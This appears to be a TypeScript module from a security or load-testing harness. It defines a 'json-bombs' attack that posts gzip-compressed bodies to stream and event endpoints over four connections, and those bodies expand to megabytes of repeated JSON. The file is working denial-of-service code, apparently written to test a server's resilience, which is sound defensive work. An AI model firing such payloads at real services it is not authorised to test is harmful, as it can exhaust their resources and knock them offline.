import { once } from 'node:events';
import { gzipSync } from 'node:zlib';
import { type Attack, again, beginPost } from './attack.ts';

function bomb(path: string, head: string, element: string, tail: string, bytes: number) {
  const count = Math.floor((bytes - head.length - tail.length) / element.length);
  return { path, body: gzipSync(`${head}${element.repeat(count)}${tail}`) };
}

/** Point 2: small bodies that become large values. */
export const jsonBombs: Attack = {
  name: 'json-bombs',
  title: 'JSON bombs in gzip: filters, properties, events, definitions, tags, over four connections',
  async run(target) {
    const stream = '/topics/t/streams/s';
    const bombs = [
      bomb('/streams', '{"streamIds":[{}', ',{}', ']}', 4 * 2 ** 20),
      bomb('/streams', '{"streamIds":[{}', ',{}', ']}', 32 * 2 ** 20),
      bomb('/topics/t/streams', '{"parents":["a"', ',"a"', ']}', 256 * 1024),
      bomb(
        `${stream}/events/data`,
        '[{"id":"a","timestamp":1}',
        ',{"id":"a","timestamp":1}',
        ']',
        32 * 2 ** 20,
      ),
    ];
    let next = 0;
    await again(4, async () => {
      const { path, body } = bombs[next++ % bombs.length]!;
      const headers = ['Content-Encoding: gzip', `Content-Length: ${body.length}`];
      const socket = await beginPost(target, path, headers);
      socket.write(body);
      await Promise.race([once(socket, 'data'), once(socket, 'close')]);
      socket.destroy();
    });
  },
};
